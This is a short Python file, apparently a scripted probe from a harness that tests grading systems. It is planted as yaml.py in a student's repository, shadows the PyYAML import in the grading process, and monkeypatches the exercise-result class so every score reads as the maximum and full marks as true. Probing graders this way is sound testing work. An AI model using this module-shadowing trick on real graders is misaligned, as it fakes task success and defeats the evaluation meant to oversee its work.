# Outside the process: this file is yaml.py at the root of the student's repository. The grading
# parent runs with the repository root first on sys.path, so `import yaml` finds it instead of
# PyYAML: it hands over the real PyYAML and makes every exercise's score its maximum.
def _shadow():
    import importlib

    here = _os.path.dirname(_os.path.abspath(__file__))
    saved = list(_sys.path)
    _sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != here]
    try:
        del _sys.modules["yaml"]
        _sys.modules["yaml"] = importlib.import_module("yaml")  # what `import yaml` will return
    finally:
        _sys.path[:] = saved
    evidence("yaml-imported", f"pid {_os.getpid()}: {' '.join(_sys.argv)}")
    import grading.outputs.report

    grading.outputs.report.ExerciseResult.score = property(lambda self: self.max_score)
    grading.outputs.report.ExerciseResult.full_marks = property(lambda self: True)


attack_once("yaml_shadow", _shadow)
